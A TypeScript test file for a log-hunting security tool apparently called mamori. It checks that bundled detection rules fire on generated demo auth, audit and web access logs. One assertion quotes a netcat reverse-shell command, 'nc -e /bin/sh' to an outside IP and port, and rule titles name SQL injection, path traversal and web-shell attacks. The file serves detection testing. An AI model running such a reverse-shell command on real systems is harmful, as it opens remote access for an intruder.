// The Linux and web part of the demo day, end to end: `mamori demo` writes linux/auth.log, linux/audit.log and
// web/access.log; the syslog, auditd and web readers read them and the bundled rules fire on them.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const ROOT = join(import.meta.dirname, '..', '..');
const BIN = join(ROOT, 'bin', 'mamori');
const RULES = join(ROOT, 'rules');
let dir = '';
let demo = '';

function mamori(args: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(BIN, args, {
    encoding: 'utf8',
    env: { ...process.env, MAMORI_HOME: dir, NO_COLOR: '1' },
    maxBuffer: 1 << 26,
  });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

type F = {
  rule: { title: string; level: string };
  severity: string;
  time?: string;
  asset: { name: string };
  evidence: { source: { file: string; line?: number }; data: Record<string, unknown> }[];
  details: Record<string, unknown>;
};

function hunt(paths: string[]): F[] {
  const r = mamori(['hunt', ...paths, '--rules', RULES, '--format', 'jsonl', '--quiet']);
  assert.equal(r.code, 0, r.stderr);
  return r.stdout
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as F);
}

function countByTitle(findings: F[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const f of findings) out[f.rule.title] = (out[f.rule.title] ?? 0) + 1;
  return out;
}

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mamori-linux-web-'));
  demo = join(dir, 'demo');
  const r = mamori(['demo', '--out', demo, '--generate-only']);
  assert.equal(r.code, 0, r.stderr);
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

test('the Linux and web logs of the demo are read, none skipped, no read issue', () => {
  const r = mamori(['hunt', join(demo, 'linux'), join(demo, 'web'), '--rules', RULES, '--no-progress']);
  assert.equal(r.code, 0, r.stderr);
  assert.doesNotMatch(r.stdout + r.stderr, /skipped\s+\d+ files/);
  assert.doesNotMatch(r.stdout + r.stderr, /read issues/);
  // 861 auth.log lines, 303 audit events (4 records each), 1204 access log lines
  assert.match(r.stdout + r.stderr, /read\s+2368 events, 3 files/);
});

test('auditd: the download to /tmp and the netcat reverse shell fire once each, on joined events', () => {
  const findings = hunt([join(demo, 'linux', 'audit.log')]);
  assert.deepEqual(countByTitle(findings), {
    'Download Into a Temporary Directory': 1,
    'Netcat Started With a Shell Attached': 1,
  });
  const nc = findings.find((f) => f.rule.title.startsWith('Netcat'))!;
  assert.equal(nc.severity, 'critical');
  assert.equal(nc.details['logsource'], 'linux/auditd');
  assert.match(nc.time!, /^2026-11-02T02:36:09/);
  const ev = nc.evidence[0]!;
  assert.ok(ev.source.file.endsWith(join('linux', 'audit.log')));
  assert.equal(typeof ev.source.line, 'number');
  assert.deepEqual(ev.data['type'], ['SYSCALL', 'EXECVE', 'CWD', 'PROCTITLE']);
  assert.equal(ev.data['proctitle'], 'nc -e /bin/sh 198.51.100.23 4444');
});

test('web: the sqlmap session fires the four web rules with the expected counts', () => {
  const findings = hunt([join(demo, 'web', 'access.log')]);
  assert.deepEqual(countByTitle(findings), {
    'Attack Tool User Agent': 4,
    'SQL Injection Attempt With UNION SELECT': 1,
    'Path Traversal Attempt': 1,
    'Web Shell Command Executed Through an Upload Directory': 2,
  });
  for (const f of findings) {
    assert.equal(f.details['logsource'], 'webserver (access log)');
    assert.match(f.time!, /^2026-11-02T14:0[0-2]:/);
    assert.equal(f.evidence[0]!.data['c-ip'], '192.0.2.66');
  }
});

test('one thread and several find the same Linux and web detections', () => {
  const ids = (jobs: string): string[] => {
    const r = mamori(['hunt', demo, '--rules', RULES, '-q', '-f', 'jsonl', '--jobs', jobs]);
    return r.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => (JSON.parse(l) as { id: string }).id)
      .sort();
  };
  const one = ids('1');
  assert.ok(one.length >= 14);
  assert.deepEqual(ids('3'), one);
});

test('syslog: the SSH brute force in auth.log raises SSH Password Guessing', () => {
  const findings = hunt([join(demo, 'linux', 'auth.log')]);
  const guess = findings.filter((f) => f.rule.title === 'SSH Password Guessing');
  assert.equal(guess.length, 1);
  assert.equal(guess[0]!.asset.name, 'br042-jump01');
  assert.equal(guess[0]!.details['value'], 60);
});
